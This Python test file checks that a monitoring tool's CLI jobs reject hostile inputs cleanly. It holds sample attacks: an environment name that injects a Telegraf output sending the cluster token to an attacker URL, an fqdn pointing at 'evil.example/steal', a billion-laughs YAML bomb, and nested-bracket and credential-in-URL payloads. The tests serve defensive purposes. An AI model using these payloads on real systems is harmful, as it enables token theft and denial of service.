"""Hostile and broken inputs (issue 15): every job, each input, one line and the documented
exit code; no traceback, no secret echoed, nothing changed in InfluxDB.

And the attack that worked: an environment name that made the generated Telegraf configuration
send the cluster's token elsewhere, tried with the real Telegraf.
"""

from __future__ import annotations

import re
import time
import tomllib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from support.cli import Run, run_cli
from support.orgs import OrgUnderTest
from support.telegraf import run_telegraf_once

from rubin_monitoring.exceptions import ConfigError
from rubin_monitoring.services.telegraf import config_text, telegraf_config
from rubin_monitoring.testing.census import bucket_census, lease_labels
from rubin_monitoring.testing.phalanx import PhalanxRepo

pytestmark = pytest.mark.integration

SECRET = "s3cr3t-in-a-url"
REPO_JOBS = (
    "inventory",
    "bucketmaker",
    "taskmaker",
    "tokenmaker",
    "telegraf-config",
    "probe-config",
)
INFLUX_JOBS = (
    "bucketmaker",
    "bucketmapper",
    "taskmaker",
    "tokenmaker",
    "notifier",
    "dashboardmaker",
)
WRITING_JOBS = ("bucketmaker", "bucketmapper", "taskmaker", "tokenmaker", "dashboardmaker")


def args_of(job: str) -> list[str]:
    return [job, "--environment", "idfdev"] if job == "telegraf-config" else [job]


@dataclass(frozen=True)
class Hostile:
    """One hostile input: how to make it, the jobs it reaches, what they must answer."""

    name: str
    jobs: tuple[str, ...]
    code: int
    says: str
    setup: Callable[[PhalanxRepo, Path], dict[str, str]] = lambda repo, tmp: {}
    never_shown: tuple[str, ...] = field(default=())


def good_repo(repo: PhalanxRepo) -> None:
    repo.set_apps({"argocd": True, "nublado": True}, {"idfdev": {}, "summit": {}})


def values(text: str | bytes) -> Callable[[PhalanxRepo, Path], dict[str, str]]:
    def setup(repo: PhalanxRepo, tmp: Path) -> dict[str, str]:
        good_repo(repo)
        target = repo.path / "environments/values-idfdev.yaml"
        if isinstance(text, bytes):
            target.write_bytes(text)
        else:
            target.write_text(text)
        repo.commit("hostile")
        return {}

    return setup


def setting(**env: str) -> Callable[[PhalanxRepo, Path], dict[str, str]]:
    def setup(repo: PhalanxRepo, tmp: Path) -> dict[str, str]:
        good_repo(repo)
        return dict(env)

    return setup


def routes(text: str) -> Callable[[PhalanxRepo, Path], dict[str, str]]:
    def setup(repo: PhalanxRepo, tmp: Path) -> dict[str, str]:
        path = tmp / "routes.yaml"
        path.write_text(text)
        return {"SLACK_ROUTES_FILE": str(path)}

    return setup


def catalog(text: str) -> Callable[[PhalanxRepo, Path], dict[str, str]]:
    def setup(repo: PhalanxRepo, tmp: Path) -> dict[str, str]:
        good_repo(repo)
        path = tmp / "catalog.yaml"
        path.write_text(text)
        return {"SCRAPE_CATALOG": str(path)}

    return setup


CASES = [
    Hostile(
        "catalog-with-a-reference",
        ("telegraf-config",),
        2,
        "entries[0].path",
        catalog(
            "entries:\n  - application: argocd\n    component: x\n    selector: app=x\n"
            "    port: 80\n    path: /m/${INFLUX_TOKEN}\n"
        ),
    ),
    Hostile(
        "nested-catalog",
        ("telegraf-config",),
        2,
        "nested too deeply",
        catalog("entries: " + "[" * 60_000 + "]" * 60_000 + "\n"),
    ),
    Hostile(
        "nested-yaml",
        REPO_JOBS,
        2,
        "nested too deeply",
        values("applications: " + "[" * 60_000 + "]" * 60_000 + "\n"),
    ),
    Hostile(
        "large-file",
        REPO_JOBS,
        2,
        "more than the limit",
        values("# padding\n" * 1_200_000),
    ),
    Hostile("binary-file", REPO_JOBS, 2, "cannot read", values(b"name: \xff\xfe\x00idf\n")),
    Hostile(
        "name-with-newline-and-config",
        ("telegraf-config",),
        2,
        "is not a Kubernetes name",
        values('name: "idfdev\\n[[outputs.file]]\\nfiles = [\\"/tmp/x\\"]"\n'),
        never_shown=("\n[[outputs.file]]",),
    ),
    Hostile(
        "port-not-a-number",
        INFLUX_JOBS,
        2,
        "port that is not a number",
        setting(INFLUXDB_URL=f"http://127.0.0.1:{SECRET}"),
        never_shown=(SECRET,),
    ),
    Hostile(
        "credentials-in-url",
        INFLUX_JOBS,
        2,
        "must not contain credentials",
        setting(INFLUXDB_URL=f"http://admin:{SECRET}@127.0.0.1:8086"),
        never_shown=(SECRET,),
    ),
    Hostile(
        "control-characters-in-host",
        INFLUX_JOBS,
        2,
        "INFLUXDB_URL",
        setting(INFLUXDB_URL="http://influx\x1b[2J:8086"),
        never_shown=("\x1b",),
    ),
    Hostile("bad-lease-ttl", WRITING_JOBS, 2, "LEASE_TTL", setting(LEASE_TTL="forever")),
    Hostile("bad-concurrency", WRITING_JOBS[:4], 2, "CONCURRENCY", setting(CONCURRENCY="-1")),
    Hostile(
        "nested-routes",
        ("notifier",),
        2,
        "routes",
        routes("routes: " + "[" * 60_000 + "]" * 60_000 + "\n"),
    ),
    Hostile(
        "unreachable",
        INFLUX_JOBS,
        3,
        "InfluxDB",
        setting(INFLUXDB_URL="http://127.0.0.1:9", HTTP_RETRY_BUDGET="2s"),
    ),
]


def case_ids() -> Iterator[tuple[Hostile, str]]:
    for case in CASES:
        for job in case.jobs:
            yield case, job


@pytest.mark.parametrize(
    ("case", "job"), list(case_ids()), ids=[f"{c.name}-{j}" for c, j in case_ids()]
)
def test_hostile_input_is_one_line_and_the_documented_code(
    org: OrgUnderTest, phalanx: PhalanxRepo, tmp_path: Path, case: Hostile, job: str
) -> None:
    extra = case.setup(phalanx, tmp_path)
    env = org.env(
        PHALANX_REPO=phalanx.url,
        SLACK_WEBHOOK_URL="http://127.0.0.1:9/hook/secret-path",
        **extra,
    )
    run = run_cli(args_of(job), env)  # an exception here is a traceback a user would see
    assert run.exit_code == case.code, run.stderr
    assert "Traceback" not in run.stderr
    errors = [line for line in run.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1, run.stderr
    assert case.says in errors[0], errors[0]
    assert run.stdout == ""
    for text in (*case.never_shown, "secret-path"):
        assert text not in run.stderr
    assert bucket_census(org, []).objects == 0
    assert lease_labels(org) == []


def problem_lines(run: Run) -> list[str]:
    return [line for line in run.stderr.splitlines() if "ERROR" in line]


@pytest.mark.parametrize(
    "job", ["inventory", "bucketmaker", "taskmaker", "tokenmaker", "probe-config"]
)
def test_an_environment_name_with_a_space_is_a_problem_and_the_rest_proceeds(
    org: OrgUnderTest, phalanx: PhalanxRepo, job: str
) -> None:
    """``idf dev`` used to crash taskmaker and tokenmaker (a traceback, no manifest) while
    --dry-run planned it with exit 0. Now the environment is held back with one line naming
    file and value, every job exits 1, and the others are served."""
    good_repo(phalanx)
    phalanx.write("environments/values-idfdev.yaml", {"name": "idf dev", "fqdn": "idf.example"})
    phalanx.commit("space")
    env = org.env(PHALANX_REPO=phalanx.url)
    if job in ("taskmaker", "tokenmaker"):
        assert run_cli(["bucketmaker"], env).exit_code == 1
    runs = []
    for dry in ((), ("--dry-run",)) if job not in ("inventory", "probe-config") else ((),):
        run = run_cli([*args_of(job), *dry, "--output", "json"], env)
        runs.append(run)
        assert run.exit_code == 1, run.stderr
        assert "Traceback" not in run.stderr
        shown = "environments/values-idfdev.yaml: environment 'idf dev': field 'name'"
        assert any(shown in line for line in problem_lines(run)), run.stderr
    if job == "taskmaker":  # the other environment's tasks were planned
        planned = {change["name"] for change in runs[0].json()["changes"]}
        assert "summit silent" in planned


def test_fqdn_with_credentials_and_a_path_is_not_probed(phalanx: PhalanxRepo) -> None:
    good_repo(phalanx)
    phalanx.write(
        "environments/values-idfdev.yaml",
        {"name": "idfdev", "fqdn": "user:pw@evil.example/steal?x=1"},
    )
    phalanx.commit("fqdn")
    run = run_cli(
        ["probe-config"],
        {"INFLUXDB_URL": "http://127.0.0.1:8086", "INFLUXDB_ORG": "o", "PHALANX_REPO": phalanx.url},
    )
    assert run.exit_code == 1
    assert "evil.example" not in run.stdout and "summit.example.com" in run.stdout
    assert any("field 'fqdn'" in line for line in problem_lines(run))


# The exfiltration attack, with the real Telegraf.


@dataclass
class Catcher:
    """An HTTP server standing for the attacker's: records what reaches it."""

    url: str
    received: list[tuple[str, str]] = field(default_factory=list)


@contextmanager
def catcher() -> Iterator[Catcher]:
    caught = Catcher("")

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            self.rfile.read(length)
            caught.received.append((self.path, self.headers.get("Authorization", "")))
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    caught.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield caught
    finally:
        server.shutdown()
        server.server_close()


def injected_name(thief: str, token: bool) -> str:
    """An environment name that closes the header comment's line and adds an output."""
    output = [
        "idfdev",
        "[[outputs.influxdb_v2]]",
        f'urls = ["{thief}"]',
        'organization = "loot"',
        'bucket = "loot"',
    ]
    if token:
        output.append('token = "${INFLUX_TOKEN}"')
    return "\n".join([*output, "[[inputs.disk]]", "#"])


def without_cluster_inputs(text: str) -> str:
    """The configuration text without its inputs that need a cluster to load (the two
    Kubernetes inputs and the control plane's certificate; their tables cut out of the text as
    written: the rest is byte for byte what was made)."""
    inputs = "kube_inventory|kubernetes|x509_cert"
    return re.sub(rf"^\[\[inputs\.({inputs})\]\]\n(?:(?!\[\[).*\n)*", "", text, flags=re.M)


@pytest.mark.parametrize("with_token", [True, False], ids=["token-reference", "plain-output"])
def test_an_environment_name_cannot_make_telegraf_send_anything_elsewhere(
    telegraf_bin: Path, with_token: bool
) -> None:
    """The probe's attack: a values file whose ``name`` held a line break and a second
    ``[[outputs.influxdb_v2]]`` with ``token = "${INFLUX_TOKEN}"``: the real Telegraf loaded
    the generated configuration and sent the cluster's token to the attacker. Names are now
    refused where the inventory is read; here the generator is given such a name directly (as
    if that check were bypassed) and the real Telegraf runs what it writes (less the inputs
    that need a cluster to load), with a metric to flush
    (``inputs.disk``, appended as a second input would be): nothing may reach the attacker's
    server, and the configuration has exactly one output. Before the fix, the token variant
    reached the attacker (``Token the-cluster-token-...`` on ``/api/v2/write?bucket=loot``)."""
    token = "the-cluster-token-0123456789"
    with catcher() as thief:
        name = injected_name(thief.url, with_token)
        try:
            text = config_text(telegraf_config(name, ["argocd"], "http://127.0.0.1:9", "square"))
        except ConfigError as error:
            assert with_token, "only a '$' is refused outright"
            assert "'$'" in str(error)
            return
        runnable = without_cluster_inputs(text) + "[[inputs.disk]]\n"
        done = run_telegraf_once(runnable, {"INFLUX_TOKEN": token})
        assert "loading config" not in done.stderr or "failed" not in done.stderr, done.stderr
    assert thief.received == [], "Telegraf sent to the attacker's server"
    assert len(tomllib.loads(text)["outputs"]["influxdb_v2"]) == 1
    assert token not in done.stderr


def test_the_injected_name_is_refused_where_the_inventory_is_read(
    org: OrgUnderTest, phalanx: PhalanxRepo
) -> None:
    good_repo(phalanx)
    name = injected_name("http://127.0.0.1:9", True)
    phalanx.write("environments/values-idfdev.yaml", {"name": name})
    phalanx.commit("attack")
    env = {"INFLUXDB_URL": org.url, "INFLUXDB_ORG": org.name, "PHALANX_REPO": phalanx.url}
    for output_format in ("config", "manifests"):
        run = run_cli(["telegraf-config", "--environment", name, "--format", output_format], env)
        assert run.exit_code == 2, run.stderr
        assert run.stdout == ""
        (line,) = [line for line in run.stderr.splitlines() if line.startswith("error: ")]
        assert "field 'name'" in line
        assert "\n[[outputs" not in run.stderr


def yaml_bomb(levels: int = 9) -> str:
    """A "billion laughs": each level a list of nine aliases of the one before (9**9 leaves)."""
    lines = ['l0: &l0 ["lol"]']
    for level in range(1, levels + 1):
        lines.append(f"l{level}: &l{level} [{', '.join([f'*l{level - 1}'] * 9)}]")
    return "\n".join([*lines, f"applications:\n  argocd: *l{levels}\n"])


def test_a_yaml_bomb_is_refused_quickly(phalanx: PhalanxRepo) -> None:
    good_repo(phalanx)
    phalanx.write("environments/values-idfdev.yaml", yaml_bomb())
    phalanx.commit("bomb")
    started = time.monotonic()
    run = run_cli(["inventory"], {"PHALANX_REPO": phalanx.url})
    assert time.monotonic() - started < 2
    assert run.exit_code == 2, run.stderr
    (line,) = [line for line in run.stderr.splitlines() if line.startswith("error: ")]
    assert "applications.argocd: expected true or false, got a list" in line
